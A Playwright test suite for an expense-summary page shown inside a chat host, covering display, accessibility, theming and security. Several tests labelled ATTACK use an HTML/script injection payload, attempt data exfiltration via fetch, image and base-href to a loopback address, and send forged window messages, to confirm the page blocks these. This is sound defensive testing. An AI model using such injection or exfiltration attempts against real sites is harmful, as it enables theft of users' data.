import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import type { Frame } from 'playwright-core'
import { type Chromium, launchChromium, withoutChromium } from '../support/chromium.ts'
import { contrast, findOverflow, measureContrasts } from '../support/measure.ts'
import { type Call, type OpenOptions, startAppHost, type View } from './app-host.ts'
import { largest, NOTHING, summaryOfMonths } from './spending-fixture.ts'

const PAGE = join(import.meta.dirname, '..', '..', 'dist', 'expenses', 'app', 'spending.html')
const YEAR = { from: '2026-01-01', to: '2026-12-31' }
const MONTHS = { '2026-01': 100, '2026-02': 50, '2026-04': 250.5 }
const CONTEXT = { locale: 'en-US', timeZone: 'UTC' }

type Period = { from?: string; to?: string }

const answerOf = (structuredContent: unknown) => ({ content: [], structuredContent })

suite('the page of the conversation in Chromium', { skip: withoutChromium }, () => {
  let chromium: Chromium
  let host: Awaited<ReturnType<typeof startAppHost>>
  before(async () => {
    chromium = await launchChromium()
    host = await startAppHost(readFileSync(PAGE, 'utf8'))
  })
  after(async () => {
    await chromium[Symbol.asyncDispose]()
    await host.close()
  })

  /** Opens the page; whatever the test does, nothing may go to the network or to the console. */
  async function withPage(options: OpenOptions, use: (view: View) => Promise<void>) {
    const view = await host.open(chromium.context, { context: CONTEXT, ...options })
    view.page.setDefaultTimeout(20_000)
    try {
      await use(view)
      assert.deepEqual(view.requests, [])
      assert.deepEqual(view.complaints, [])
    } finally {
      await view.page.close()
    }
  }

  const shown = (view: View) => view.frame.locator('.figures').waitFor()

  test('it waits, then shows figures, categories, months and payment methods', async () => {
    await withPage({}, async (view) => {
      await view.frame.getByText('Waiting for the figures…').waitFor()
      await view.answer(answerOf(summaryOfMonths(MONTHS, YEAR)), YEAR)
      await shown(view)
      const tree = await view.frame.locator('main').ariaSnapshot()
      for (const line of [
        'heading "Spending" [level=1]',
        'paragraph: Jan 1 – Dec 31, 2026',
        'definition: $400.50',
        'definition: $133.50',
        'definition: lunch Food · Apr 5, 2026',
        'heading "By category" [level=2]',
        'listitem: Food 100% · 3 expenses $400.50',
        'heading "By month" [level=2]',
        'listitem: "Jan 2026: $100.00, 1 expense"',
        'listitem: "Mar 2026: $0.00, 0 expenses"',
        'heading "By payment method" [level=2]',
        'listitem: Visa 100% · 3 expenses $400.50',
      ]) {
        assert.ok(plain(tree).includes(line), `${line}\nis not in\n${tree}`)
      }
      assert.equal((tree.match(/listitem: "\w{3} 2026/g) ?? []).length, 12)
    })
  })

  test('as a table, it says the same in rows and columns', async () => {
    await withPage({}, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      const button = view.frame.getByRole('button', { name: 'Table' })
      await button.click()
      assert.equal(await button.getAttribute('aria-pressed'), 'true')
      const row = view.frame.getByRole('row', { name: 'Apr 2026 1 $250.50 $250.50' })
      assert.equal(await row.getByRole('rowheader').innerText(), 'Apr 2026')
      // A month without expenses needs no row.
      assert.equal(await view.frame.getByRole('row', { name: /Mar 2026/ }).count(), 0)
      const headings = view.frame.getByRole('columnheader', { name: 'Average' })
      assert.equal(await headings.count(), 3)
    })
  })

  test('another period is asked of the server, with the filters of the call', async () => {
    const calls: unknown[] = []
    const callTool = async ({ name, arguments: args }: Call) => {
      calls.push({ name, arguments: args })
      return answerOf(summaryOfMonths({ '2026-11': 12 }, args as Period))
    }
    await withPage({ callTool }, async (view) => {
      const asked = { from: '2026-01-05', to: '2026-04-30' }
      await view.answer(answerOf(summaryOfMonths(MONTHS, asked)), { ...asked, category: 'food' })
      const choice = view.frame.getByRole('combobox', { name: 'Period' })
      assert.equal(await choice.locator('option:checked').innerText(), 'As asked')
      await choice.selectOption('All time')
      await view.frame.getByRole('definition').filter({ hasText: '$12.00' }).first().waitFor()
      assert.deepEqual(calls, [{ name: 'summarize_expenses', arguments: { category: 'food' } }])
      assert.equal(await view.frame.locator('#subtitle').innerText(), 'All time · Food')
      assert.equal(await view.frame.getByRole('status').innerText(), 'All time: 1 expense, $12.00')
      await choice.selectOption('As asked')
      await view.frame.getByText('Jan 5 – Apr 30, 2026 · Food', { exact: true }).waitFor()
    })
  })

  test('only the answer to the last choice is shown', async () => {
    const answers = new Map<unknown, (value: unknown) => void>()
    const callTool = ({ arguments: args }: { arguments?: Record<string, unknown> }) =>
      new Promise((resolve) => answers.set(args?.from ?? 'all', resolve))
    await withPage({ callTool }, async (view) => {
      await view.answer(answerOf(NOTHING))
      const choice = view.frame.getByRole('combobox', { name: 'Period' })
      await choice.selectOption('Last year')
      await choice.selectOption('All time')
      await until(() => answers.size === 2)
      const [first, last] = [...answers.values()]
      last?.(answerOf(summaryOfMonths({ '2026-11': 2 })))
      await view.frame.getByText('$2.00').first().waitFor()
      first?.(answerOf(summaryOfMonths({ '2025-11': 1 })))
      await afterFrames(view, 10)
      assert.equal(await view.frame.getByText('$1.00').count(), 0)
    })
  })

  test('where the host passes no calls on, no period is offered', async () => {
    await withPage({ mayCall: false }, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await shown(view)
      assert.equal(await view.frame.getByRole('combobox', { name: 'Period' }).isVisible(), false)
      assert.ok(await view.frame.getByRole('button', { name: 'Table' }).isVisible())
    })
  })

  test('a tool that fails, is cancelled or answers otherwise is said, and can be asked again', async () => {
    const text = (words: string) => ({ content: [{ type: 'text', text: words }] })
    const callTool = async () => answerOf(summaryOfMonths(MONTHS))
    const cases: [(view: View) => Promise<void>, RegExp][] = [
      [
        (view) => view.answer({ ...text('The storage is away.'), isError: true }),
        /could not be read\s*The storage is away\./,
      ],
      [(view) => view.send('sendToolCancelled', { reason: 'Stopped.' }), /cancelled\s*Stopped\./],
      [(view) => view.answer(text('Total: 5')), /Only text came\s*Total: 5/],
      [(view) => view.answer(answerOf({ count: 'many' })), /could not be read/],
      [
        (view) =>
          view.post({
            jsonrpc: '2.0',
            method: 'ui/notifications/tool-result',
            params: { content: 'none' },
          }),
        /could not be read/,
      ],
    ]
    for (const [send, words] of cases) {
      const view = await host.open(chromium.context, { context: CONTEXT, callTool })
      await send(view)
      await view.frame.locator('.message').filter({ hasText: words }).waitFor()
      assert.match(await view.frame.getByRole('status').innerText(), /\w/)
      await view.frame.getByRole('button', { name: 'Try again' }).click()
      await shown(view)
      const focused = await view.frame.locator(':focus').getAttribute('id')
      assert.equal(focused, 'period')
      await view.page.close()
    }
  })

  test('a call that the host refuses leaves a way back', async () => {
    const callTool = async () => {
      throw new Error('Not allowed.')
    }
    await withPage({ callTool }, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await view.frame.getByRole('combobox', { name: 'Period' }).selectOption('This year')
      await view.frame.getByText('The figures did not come', { exact: true }).waitFor()
      assert.match(await view.frame.locator('.words').innerText(), /Not allowed\./)
      assert.ok(await view.frame.getByRole('button', { name: 'Try again' }).isVisible())
    })
  })

  test('arguments that are half written are no trouble', async () => {
    await withPage({}, async (view) => {
      for (const args of [{}, { from: '202' }, { from: '2026-01-01', to: null }, { from: {} }]) {
        await view.send('sendToolInputPartial', { arguments: args })
      }
      await view.frame
        .getByText('Since', { exact: false })
        .or(view.frame.getByText('All time'))
        .waitFor()
      await view.answer(answerOf(summaryOfMonths(MONTHS, YEAR)), YEAR)
      await view.frame.getByText('Jan 1 – Dec 31, 2026', { exact: true }).waitFor()
    })
  })

  test('what the arguments do not say, the answer does', async () => {
    await withPage({ callTool: async () => answerOf(NOTHING) }, async (view) => {
      const summary = summaryOfMonths(MONTHS, { from: '2026-01-05', to: '2026-04-30' })
      await view.send('sendToolResult', answerOf(summary))
      await view.frame.getByText('Jan 5 – Apr 30, 2026', { exact: true }).waitFor()
      const choice = view.frame.getByRole('combobox', { name: 'Period' })
      assert.equal(await choice.locator('option:checked').innerText(), 'As asked')
    })
  })

  test('a new theme leaves the focus where it is', async () => {
    await withPage({}, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      const column = view.frame.getByRole('listitem').filter({ hasText: 'Apr 2026' })
      await column.focus()
      await view.setContext({ theme: 'dark' })
      await until(async () => (await styleOf(view, 'backgroundColor')) === 'rgb(27, 27, 29)')
      assert.match(await view.frame.locator(':focus').innerText(), /^Apr 2026/)
    })
  })

  test('expenses in other currencies are told apart, and no expense is said', async () => {
    await withPage({}, async (view) => {
      await view.answer(answerOf({ ...NOTHING, ...YEAR }), YEAR)
      await view.frame.getByText('Nothing was recorded in this period.').waitFor()
      assert.equal(await view.frame.getByRole('button', { name: 'Table' }).isVisible(), false)
      await view.send('sendToolResult', {
        ...answerOf({ ...NOTHING, other_totals: [{ currency: 'EUR', count: 2, total: 9.5 }] }),
      })
      await view.frame.getByText('€9.50 (2 expenses)').waitFor()
    })
  })

  test('the keyboard reaches everything, and the focus is seen', async () => {
    const context = { ...CONTEXT, availableDisplayModes: ['inline', 'fullscreen'] }
    await withPage({ context, callTool: async () => answerOf(NOTHING) }, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await shown(view)
      const { keyboard } = view.page
      const walked: string[] = []
      for (let stop = 0; stop < 5; stop += 1) {
        await keyboard.press('Tab')
        const focused = view.frame.locator(':focus')
        walked.push((await focused.getAttribute('id')) ?? (await focused.innerText()))
        const style = await focused.evaluate((element) => {
          const { outlineStyle, outlineWidth } = (
            element as never as Styled
          ).ownerDocument.defaultView.getComputedStyle(element)
          return `${outlineStyle} ${outlineWidth}`
        })
        assert.equal(style, 'solid 2px')
      }
      assert.deepEqual(walked.slice(0, 4), ['period', 'chart', 'table', 'mode'])
      assert.match(walked[4] ?? '', /^Apr 2026: \$250\.50/)
      await keyboard.press('ArrowLeft')
      assert.match(await view.frame.locator('.readout').innerText(), /^Mar 2026: \$0\.00/)
      await keyboard.press('Home')
      assert.match(await view.frame.locator(':focus').innerText(), /^Jan 2026/)
      await keyboard.press('End')
      assert.match(await view.frame.locator(':focus').innerText(), /^Apr 2026/)
      await keyboard.press('Shift+Tab')
      await keyboard.press('Shift+Tab')
      await keyboard.press('Enter')
      await view.frame.getByRole('table').first().waitFor()
    })
  })

  test('every text has the contrast of WCAG AA and every bar 3:1, light and dark', async () => {
    for (const theme of ['light', 'dark']) {
      await withPage({ context: { ...CONTEXT, theme } }, async (view) => {
        await view.answer(answerOf({ ...summaryOfMonths(MONTHS), other_totals: [EUROS] }))
        await shown(view)
        await assertContrast(view)
        await view.frame.getByRole('button', { name: 'Table' }).click()
        await assertContrast(view)
      })
    }
  })

  test("a host's colours are worn where they can be read, and no others", async () => {
    const wear = (variables: Record<string, string>) => ({
      ...CONTEXT,
      theme: 'light',
      styles: { variables },
    })
    const solarized = wear({
      '--color-background-primary': 'light-dark(#fdf6e3, #002b36)',
      '--color-text-primary': 'light-dark(#073642, #eee8d5)',
      '--font-sans': 'serif',
    })
    await withPage({ context: solarized }, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await shown(view)
      assert.equal(await styleOf(view, 'backgroundColor'), 'rgb(253, 246, 227)')
      assert.equal(await styleOf(view, 'fontFamily'), 'serif')
      await assertContrast(view)
      await view.setContext({ theme: 'dark' })
      await until(async () => (await styleOf(view, 'backgroundColor')) === 'rgb(0, 43, 54)')
      await assertContrast(view)
      await view.setContext({ theme: 'light' })
      // A ground for the other theme, without its text.
      await view.setContext({
        styles: {
          variables: { '--color-background-primary': '#111111', '--color-text-primary': '#222222' },
        },
      })
      await until(async () => (await styleOf(view, 'backgroundColor')) === 'rgb(255, 255, 255)')
      await assertContrast(view)
      await view.setContext({
        styles: {
          variables: {
            '--color-background-primary': 'url(https://example.com/)',
            '--color-text-primary': 'transparent',
          },
        },
      })
      await afterFrames(view, 3)
      await assertContrast(view)
    })
  })

  test('theme, locale and size change while it is open', async () => {
    await withPage({ context: { ...CONTEXT, theme: 'light' } }, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await shown(view)
      assert.equal(await styleOf(view, 'backgroundColor'), 'rgb(255, 255, 255)')
      await view.setContext({ theme: 'dark', locale: 'de-DE' })
      await view.frame.getByText('400,50').first().waitFor()
      await until(async () => (await styleOf(view, 'backgroundColor')) === 'rgb(27, 27, 29)')
      await view.setContext({ safeAreaInsets: { top: 40, right: 0, bottom: 0, left: 0 } })
      await until(async () => (await styleOf(view, 'paddingTop')) === '40px')
      await view.setContext({ containerDimensions: { maxHeight: 300 } })
      await until(async () => (await view.sizes()).at(-1)?.height === 300)
    })
  })

  test('full screen is offered where the host has it, and so is the way back', async () => {
    const context = {
      ...CONTEXT,
      displayMode: 'inline',
      availableDisplayModes: ['inline', 'fullscreen'],
    }
    await withPage({ context }, async (view) => {
      await view.frame.getByRole('button', { name: 'Full screen', exact: true }).click()
      await view.frame.getByRole('button', { name: 'Exit full screen' }).click()
      await view.frame.getByRole('button', { name: 'Full screen', exact: true }).waitFor()
    })
    await withPage({}, async (view) => {
      assert.equal(await view.frame.locator('#mode').isVisible(), false)
    })
  })

  test('ATTACK: markup in a description, a category, a currency, an error, an argument is text', async () => {
    const markup =
      '<img src="https://example.com/x" onerror="document.title=1"><script>alert(1)</script>'
    const callTool = async () => ({ isError: true, content: [{ type: 'text', text: markup }] })
    await withPage({ callTool }, async (view) => {
      const summary = summaryOfMonths(MONTHS)
      const hostile = {
        ...summary,
        currency: markup,
        largest: largest({ description: markup, category: markup, currency: markup }),
        by_category: [{ ...summary.by_category[0], category: markup }],
        by_payment_method: [{ ...summary.by_payment_method[0], payment_method: markup }],
        other_totals: [{ currency: markup, count: 1, total: 1 }],
      }
      await view.answer(answerOf(hostile), { category: markup, payment_method: markup })
      await shown(view)
      await view.frame.getByRole('button', { name: 'Table' }).click()
      assert.equal(await view.frame.locator('main img, main script').count(), 0)
      assert.equal(await view.frame.locator('.description').innerText(), markup)
      await view.frame.getByRole('combobox', { name: 'Period' }).selectOption('Last year')
      await view.frame.locator('.words').filter({ hasText: markup }).waitFor()
      assert.equal(await view.frame.locator('main img, main script').count(), 0)
    })
  })

  test('ATTACK: where a host forgets its policy, the page’s own lets nothing out', async () => {
    const page = await chromium.context.newPage()
    // Nothing around it: what holds here is in the page.
    await page.setContent(readFileSync(PAGE, 'utf8'))
    const refused = await page.evaluate(`(async () => {
      const seen = []
      document.addEventListener('securitypolicyviolation', (event) => {
        seen.push(event.effectiveDirective)
      })
      const away = 'http://127.0.0.1:9/?all-that-was-spent'
      await fetch(away).catch(() => {})
      const image = new Image()
      image.src = away
      const base = Object.assign(document.createElement('base'), { href: away })
      document.head.append(base)
      await new Promise((resolve) => image.addEventListener('error', resolve))
      return seen.sort()
    })()`)
    await page.close()
    assert.deepEqual(refused, ['base-uri', 'connect-src', 'img-src'])
  })

  test('ATTACK: what a window sends that is not the host is not shown, nor asks for anything', async () => {
    const calls: Call[] = []
    const callTool = async (call: Call) => {
      calls.push(call)
      return answerOf(NOTHING)
    }
    await withPage({ callTool }, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await shown(view)
      const before = await view.frame.locator('main').innerText()
      const forged = { ...summaryOfMonths({ '2026-05': 9999 }), currency: 'EUR' }
      await view.postFromBeside([
        ['ui/notifications/tool-input', { arguments: { category: 'gadget' } }],
        ['ui/notifications/tool-result', answerOf(forged)],
        ['ui/notifications/tool-cancelled', { reason: 'forged' }],
        ['ui/notifications/host-context-changed', { theme: 'dark', locale: 'de' }],
      ])
      // What the host sends afterwards has been heard after it.
      await view.setContext({ displayMode: 'fullscreen' })
      await view.frame.locator('html[data-mode="fullscreen"]').waitFor()
      assert.equal(await view.frame.locator('main').innerText(), before)
      assert.deepEqual(calls, [])
    })
  })

  test('it tells its size, and then is still', async () => {
    await withPage({}, async (view) => {
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await shown(view)
      await afterFrames(view, 20)
      const told = await view.sizes()
      await afterFrames(view, 30)
      assert.deepEqual(await view.sizes(), told)
      assert.ok(told.length >= 2 && told.length <= 4, JSON.stringify(told))
      const height = await frameOf(view).evaluate('document.documentElement.scrollHeight')
      assert.equal(told.at(-1)?.height, height)
    })
  })

  test('nothing reaches beyond a page of 320 px, 700 px or 1200 px', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 36 }, (_, index) => [
        `20${20 + Math.floor(index / 12)}-${String((index % 12) + 1).padStart(2, '0')}`,
        123_456_789.01,
      ]),
    )
    const wide = {
      ...summaryOfMonths(many),
      largest: largest({ description: 'W'.repeat(500), amount: 1_000_000_000 }),
    }
    for (const width of [320, 700, 1200]) {
      await withPage({ width }, async (view) => {
        await view.answer(answerOf(wide))
        await shown(view)
        const beyond = await findOverflow(frameOf(view))
        // What is meant for ears only; a description that is cut; a column below a wider label.
        const meant = /^(SPAN\.unseen|P\.unseen|LEGEND\.unseen|BDI\.description|LI\.slot)$/
        assert.deepEqual(
          beyond.filter((name) => !meant.test(name)),
          [],
        )
      })
    }
  })

  test('a host on the web shows it through a frame of another origin', async () => {
    const view = await host.open(chromium.context, { context: CONTEXT, proxied: true })
    await view.answer(answerOf(summaryOfMonths(MONTHS)))
    await shown(view)
    assert.deepEqual(view.requests, [])
    // Of the host's own making.
    const own = /allow-scripts and allow-same-origin/
    assert.deepEqual(
      view.complaints.filter((text) => !own.test(text)),
      [],
    )
    await view.page.close()
  })

  test('once it is torn down, a late answer is not shown', async () => {
    let settle: (value: unknown) => void = () => {}
    const callTool = () => new Promise((resolve) => (settle = resolve))
    await withPage({ callTool }, async (view) => {
      await view.answer(answerOf(NOTHING))
      await view.frame.getByRole('combobox', { name: 'Period' }).selectOption('Last year')
      await view.frame.getByText('Loading…').first().waitFor()
      assert.deepEqual(await view.teardown(), {})
      settle(answerOf(summaryOfMonths(MONTHS)))
      await afterFrames(view, 10)
      assert.equal(await view.frame.locator('.figures').count(), 0)
    })
  })

  test('bars are seen in forced colours, and do not move for who wants no motion', async () => {
    await withPage({}, async (view) => {
      await view.page.emulateMedia({ forcedColors: 'active', reducedMotion: 'reduce' })
      await view.answer(answerOf(summaryOfMonths(MONTHS)))
      await shown(view)
      const [fill, ground] = await barAndGround(view)
      assert.ok(contrast(fill, ground) >= 3, `${fill} on ${ground}`)
      assert.equal(await styleOf(view, 'transitionDuration', '.fill'), '0s')
    })
  })
})

const EUROS = { currency: 'EUR', count: 1, total: 3 }

type Styled = {
  ownerDocument: {
    defaultView: { getComputedStyle(element: unknown): Record<string, string> }
  }
}

/** Text as it is written, with plain spaces. */
const plain = (text: string) => text.replace(/[\u2009\u00a0\u202f]/g, ' ')

function frameOf({ page }: View): Frame {
  const frame = page.frames().at(-1)
  if (!frame) throw new Error('The page has no frame.')
  return frame
}

async function assertContrast(view: View): Promise<void> {
  const texts = await measureContrasts(frameOf(view))
  assert.ok(texts.length > 10)
  assert.deepEqual(
    texts.filter(({ ratio }) => ratio < 4.5),
    [],
  )
  const [fill, ground, track] = await barAndGround(view)
  if (fill === '') return
  assert.ok(contrast(fill, ground) >= 3, `${fill} on ${ground}`)
  assert.ok(contrast(fill, track) >= 3, `${fill} on ${track}`)
}

/** The colours of a bar, of the page and of the bar's track; empty where there are no bars. */
async function barAndGround(view: View): Promise<[string, string, string]> {
  const colours = await frameOf(view).evaluate(`['.bar .fill', 'body', '.bar'].map((selector) => {
    const element = document.querySelector(selector)
    if (!element) return ''
    const painter = document.createElement('canvas').getContext('2d', { willReadFrequently: true })
    painter.fillStyle = getComputedStyle(element).backgroundColor
    painter.fillRect(0, 0, 1, 1)
    return 'rgb(' + [...painter.getImageData(0, 0, 1, 1).data].slice(0, 3).join(', ') + ')'
  })`)
  return colours as [string, string, string]
}

function styleOf(view: View, property: string, selector = 'body'): Promise<string> {
  return frameOf(view).evaluate(
    `getComputedStyle(document.querySelector('${selector}')).${property}`,
  )
}

/** Lets the page paint so many times. */
function afterFrames(view: View, count: number): Promise<unknown> {
  return frameOf(view).evaluate(`new Promise((resolve) => {
    let left = ${count}
    const next = () => (left-- > 0 ? requestAnimationFrame(next) : resolve(undefined))
    next()
  })`)
}

async function until(isDone: () => boolean | Promise<boolean>): Promise<void> {
  const deadline = Date.now() + 20_000
  while (!(await isDone())) {
    if (Date.now() > deadline) throw new Error('It did not come to that.')
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}
